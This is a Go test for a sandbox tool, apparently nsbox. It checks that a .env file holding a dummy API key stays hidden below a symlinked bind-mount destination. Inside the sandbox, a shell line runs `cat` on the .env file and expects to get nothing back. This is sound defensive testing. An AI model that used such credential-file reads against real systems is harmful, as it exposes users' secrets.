// DST. Hides never follow symlinks, but they are resolved below the bind
// that shows them, whatever its destination went through.
func TestHideBelowSymlinkedDest(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		src := u.tempDir(t)
		u.writeFile(t, filepath.Join(src, ".env"), "API_KEY=nsbox-it-dest\n", 0o600)
		r := u.sh(t, nil, []string{"--rw", src + ":/var/run/nsbox-it"}, `echo "env=[$(cat /var/run/nsbox-it/.env)]"; readlink /var/run`)
		expectCode(t, r, 0)
		if !strings.HasPrefix(r.stdout, "env=[]\n") {
			t.Errorf("the .env below DST is not hidden: %q", r.stdout)
		}
	})
}
